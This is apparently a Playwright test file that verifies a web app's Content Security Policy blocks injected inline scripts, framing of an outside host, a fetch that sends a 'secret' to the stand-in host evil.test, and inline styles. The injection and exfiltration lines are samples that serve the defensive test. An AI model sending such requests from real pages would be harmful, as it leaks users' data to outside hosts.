import { expect, test, watchPolicy } from './support/test';

test('what the policy refuses is seen, and does not happen', async ({
  browser,
  contextOptions,
}) => {
  // A context of its own: the one of every test would fail for what is done here.
  // oxlint-disable-next-line no-restricted-properties
  const context = await browser.newContext(contextOptions);
  const refused = watchPolicy(context);
  const page = await context.newPage();
  await page.goto('/auth');
  const seen = (of: RegExp) => expect.poll(() => refused.join('\n')).toMatch(of);

  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'document.title = "injected"';
    document.body.append(script);
  });
  await seen(/script-src/);
  await page.evaluate(() => {
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.test/';
    document.body.append(frame);
  });
  await seen(/frame-src/);
  await page.evaluate(() => fetch('https://evil.test/?what=a-secret').catch(() => undefined));
  await seen(/connect-src/);
  await page.evaluate(() => document.body.setAttribute('style', 'display: none'));
  await seen(/style-src-attr/);
  await page.evaluate(() => {
    const frame = document.createElement('iframe');
    frame.src = '/dashboard';
    document.body.append(frame);
  });
  await seen(/frame-src.*\n.*dashboard|dashboard.*\n?.*frame-src/);
  await expect(page).not.toHaveTitle('injected');
  await context.close();
});
